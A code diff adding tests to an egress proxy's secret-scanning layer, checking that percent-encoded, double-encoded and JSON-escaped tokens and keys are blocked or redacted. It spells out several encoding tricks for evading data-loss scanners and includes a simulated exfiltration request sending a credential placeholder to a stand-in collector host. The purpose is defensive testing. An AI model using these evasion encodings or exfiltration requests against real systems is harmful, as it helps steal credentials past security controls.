@@ -11,7 +11,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { createScanner } from '../src/dlp/index.js';
-import { checksummedToken, seededRandom } from '../src/dlp/samples.js';
+import { checksummedToken, SAMPLES, seededRandom } from '../src/dlp/samples.js';
 import { CertificateAuthority } from '../src/egress/ca.js';
 import type { EgressSession } from '../src/egress/index.js';
 import { PlaceholderRegistry } from '../src/secrets/placeholders.js';
@@ -43,6 +43,8 @@ describe('egress request content', () => {
   const caFile = join(dir, 'proxy-ca.pem');
   let gate: TestProxy;
   let api: Awaited<ReturnType<typeof startTlsEchoServer>>;
+  /** A host no credential grant names: where an exfiltrated placeholder would go. */
+  let www: Awaited<ReturnType<typeof startTlsEchoServer>>;
   /** Streams back, as server-sent events, a real value it learnt earlier (no Content-Length). */
   let stream: { port: number; close(): void };
   let session: EgressSession;
@@ -67,6 +69,7 @@ describe('egress request content', () => {
     writeFileSync(caFile, proxyCa.certificatePem);
     proxyCaPem = proxyCa.certificatePem;
     api = await startTlsEchoServer(publicCa, 'api.test');
+    www = await startTlsEchoServer(publicCa, 'www.test');
     const pair = await publicCa.issue('stream.test');
     const streamServer = createHttpsServer({ cert: pair.certificate, key: pair.key }, (_request, response) => {
       response.writeHead(200, { 'content-type': 'text/event-stream' });
@@ -95,6 +98,7 @@ describe('egress request content', () => {
     await bridge.close();
     await gate.close();
     await api.close();
+    await www.close();
     stream.close();
     rmSync(dir, { recursive: true, force: true });
   });
@@ -210,5 +214,126 @@ describe('egress request content', () => {
     assert.equal(result.status, 200, result.stderr + result.body);
     assert.equal(result.headers['transfer-encoding'], 'chunked', 'not held back to be measured');
     assert.equal(result.body, `data: first ${placeholder.value}\n\ndata: second ${placeholder.value}\n\n`);
+  });
+
+  describe('percent-encoded content, read as the server decodes it', () => {
+    const token = (seed: number): string => checksummedToken('ghp_', seededRandom(seed));
+    /** Every byte as `%XX`, as no client needs to but any server decodes. */
+    const everyByte = (text: string): string => [...Buffer.from(text, 'utf8')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
+    const refusedBeforeTheServer = async (args: string[], reason: string): Promise<string> => {
+      const before = api.requests.length;
+      const result = await viaSession(args);
+      assert.equal(result.status, 403, result.stderr + result.body);
+      assert.equal(result.headers['x-gatehouse-reason'], reason);
+      assert.equal(api.requests.length, before, 'nothing reached the server');
+      return result.body;
+    };
+
+    it('blocks a secret percent-encoded in a query (ghp%5F…)', async () => {
+      const secret = token(41);
+      const body = await refusedBeforeTheServer([`https://api.test:${api.port}/v1/search?q=docs&ref=${secret.replace('_', '%5F')}`], 'secret-detected');
+      assert.match(body, /percent-encoded in the URL/);
+      assert.match(body, /github-pat/);
+    });
+
+    it('blocks a secret percent-encoded in a form body (sk%2Dant%2D…)', async () => {
+      const secret = SAMPLES['anthropic-api-key']!(seededRandom(47));
+      const body = await refusedBeforeTheServer(['-X', 'POST', '--data-binary', `note=hello&key=${secret.replaceAll('-', '%2D')}`, `https://api.test:${api.port}/v1/keys`], 'secret-detected');
+      assert.match(body, /percent-encoded in the body/);
+    });
+
+    it('blocks a private key in a form body, its spaces sent as "+" and its newlines as %0A', async () => {
+      const pem = SAMPLES['private-key']!(seededRandom(48));
+      // What a browser form or URLSearchParams sends.
+      const form = new URLSearchParams({ key: pem }).toString();
+      assert.ok(form.includes('BEGIN+RSA+PRIVATE+KEY') && form.includes('%0A'), form.slice(0, 60));
+      await refusedBeforeTheServer(['-X', 'POST', '--data-binary', form, `https://api.test:${api.port}/v1/keys`], 'secret-detected');
+    });
+
+    it('blocks a secret with every byte percent-encoded, in a body of any content type', async () => {
+      const body = await refusedBeforeTheServer(
+        ['-X', 'POST', '-H', 'content-type: text/plain', '--data-binary', `leak=${everyByte(token(42))}`, `https://api.test:${api.port}/v1/notes`],
+        'secret-detected',
+      );
+      assert.match(body, /percent-encoded in the body/);
+    });
+
+    it('blocks a secret percent-encoded twice (%255F), in the query and in the path', async () => {
+      const secret = token(43);
+      await refusedBeforeTheServer([`https://api.test:${api.port}/v1/search?token=${secret.replace('_', '%255F')}`], 'secret-detected');
+      await refusedBeforeTheServer([`https://api.test:${api.port}/v1/${everyByte(secret).replaceAll('%', '%25')}/x`], 'secret-detected');
+    });
+
+    it('blocks a secret percent-encoded in a JSON string whose "%" is itself a JSON escape (\\u0025)', async () => {
+      const secret = token(49);
+      const json = `{"note":"line\\n","ref":"${secret.replace('_', '\\u00255F')}"}`;
+      assert.equal((JSON.parse(json) as { ref: string }).ref, secret.replace('_', '%5F'), 'a JSON parser reads ghp%5F…');
+      await refusedBeforeTheServer(['-X', 'POST', '-H', 'content-type: application/json', '--data-binary', json, `https://api.test:${api.port}/v1/notes`], 'secret-detected');
+    });
+
+    it('blocks a secret percent-encoded in a header value (a cookie a server decodes)', async () => {
+      await refusedBeforeTheServer(['-H', `Cookie: session=${everyByte(token(44))}`, `https://api.test:${api.port}/v1/me`], 'secret-detected');
+    });
+
+    it('refuses a URL encoded more than eight layers deep, which it cannot read to the end', async () => {
+      // "A" nine times encoded: %41, %2541, %252541, …
+      const nine = `%${'25'.repeat(8)}41`;
+      const before = api.requests.length;
+      const result = await viaSession([`https://api.test:${api.port}/v1/search?q=${nine}`]);
+      assert.equal(result.status, 400, result.stderr + result.body);
+      assert.equal(result.headers['x-gatehouse-reason'], 'bad-request');
+      assert.match(result.body, /percent-encoded more than 8 layers deep in the URL/);
+      assert.equal(api.requests.length, before);
+    });
+
+    it('in redact mode, redacts a percent-encoded secret where it sits, and the rest arrives byte-exact', async () => {
+      const previous = gate.holder.current;
+      gate.holder.current = compile(policy('redact'));
+      try {
+        const inQuery = token(45);
+        const inBody = token(46);
+        const result = await viaSession([
+          '-X',
+          'POST',
+          '--data-binary',
+          `key=${inBody.replace('_', '%255F')}&sum=1%2B1+is+2&odd=%zz`,
+          `https://api.test:${api.port}/v1/search?q=a%20b&token=${everyByte(inQuery)}&next=%2Fhome`,
+        ]);
+        assert.equal(result.status, 200, result.stderr + result.body);
+        const seen = api.requests.at(-1);
+        assert.equal(seen?.url, '/v1/search?q=a%20b&token=[REDACTED:github-pat]&next=%2Fhome');
+        assert.equal(seen.body, 'key=[REDACTED:github-pat]&sum=1%2B1+is+2&odd=%zz');
+        assert.equal(Number(seen.headers['content-length']), seen.bodyBytes.length);
+        const record = gate.audit.records.findLast((r) => r.action === 'request' && String(r.resource).includes('/v1/search'));
+        assert.equal(record?.details?.redacted, true);
+        assert.deepEqual(record?.details?.percentEncoded, ['URL', 'body']);
+      } finally {
+        gate.holder.current = previous;
+      }
+    });
+
+    it('refuses a percent-encoded placeholder heading to a host its grant does not name', async () => {
+      const placeholder = placeholders.issue('sess-c', grant('deploy-key'), realDeployKey);
+      for (const [index, args] of [
+        [`https://www.test:${www.port}/collect?k=${everyByte(placeholder.value)}`],
+        ['-X', 'POST', '--data-binary', `stolen=${placeholder.value.replace(/[A-Za-z]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)}`, `https://www.test:${www.port}/collect`],
+      ].entries()) {
+        const result = await viaSession(args);
+        assert.equal(result.status, 403, `case ${index}: ${result.stderr}${result.body}`);
+        assert.equal(result.headers['x-gatehouse-reason'], 'placeholder-exfiltration');
+      }
+      assert.equal(www.requests.length, 0, 'the placeholder never left');
+      const record = gate.audit.records.findLast((r) => r.details?.reasonCode === 'placeholder-exfiltration');
+      assert.deepEqual(record?.details?.attemptedExfiltration, { secret: 'deploy-key', rule: 'deploy', session: 'sess-c' });
+    });
+
+    it('passes a clean URL and body with ordinary and malformed escapes unchanged', async () => {
+      const url = '/v1/files/a%2Fb/report%20final.txt?q=hello%20world&path=%2Ftmp%2Fx&plus=a+b&pct=100%25&odd=%zz%4&end=%';
+      const result = await viaSession(['-X', 'POST', '--data-binary', 'comment=100%25+sure&bad=%G1%', `https://api.test:${api.port}${url}`]);
+      assert.equal(result.status, 200, result.stderr + result.body);
+      const seen = api.requests.at(-1);
+      assert.equal(seen?.url, url);
+      assert.equal(seen.body, 'comment=100%25+sure&bad=%G1%');
+    });
   });
 });
